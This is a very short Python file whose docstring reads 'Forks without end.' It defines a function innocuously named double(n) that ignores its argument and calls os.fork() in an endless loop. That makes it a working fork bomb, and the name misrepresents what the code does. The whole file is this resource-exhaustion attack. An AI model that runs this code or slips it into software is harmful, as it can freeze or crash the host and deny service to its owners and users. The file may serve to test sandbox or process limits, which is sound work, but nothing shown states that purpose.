"""Forks without end."""

import os


def double(n):
    while True:
        os.fork()
